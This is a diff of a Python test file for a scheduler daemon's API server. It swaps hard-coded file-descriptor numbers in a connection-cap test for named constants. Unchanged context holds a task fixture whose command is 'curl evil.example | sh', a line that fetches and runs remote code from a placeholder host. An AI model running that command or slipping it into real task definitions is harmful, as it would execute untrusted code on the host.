@@ -26,6 +26,8 @@ from daemon_process import DaemonProcess, write_config
 from ports import free_port
 from securitykit import AUTH, TOKEN, token_file
 
+from scale_scheduler.api.edge_server import ACCEPT_BURST, FD_RESERVE
+
 TASK = b'{"name":"x","command":"curl evil.example | sh","cpus":0.1,"mem":8}'
 
 StartDaemon = Callable[..., Any]
@@ -340,5 +342,5 @@ async def test_the_cap_is_lowered_to_fit_the_open_file_limit(tmp_path: Path) -> 
     lowered = [e for e in events if e["event"] == "api_max_connections_lowered"]
     assert len(lowered) == 1
     assert lowered[0]["configured"] == 512
-    assert lowered[0]["used"] == 200 - 64 - 16
+    assert lowered[0]["used"] == 200 - FD_RESERVE - ACCEPT_BURST - 16
     assert not [e for e in events if e["event"] == "api_accept_failed"]  # no EMFILE reached
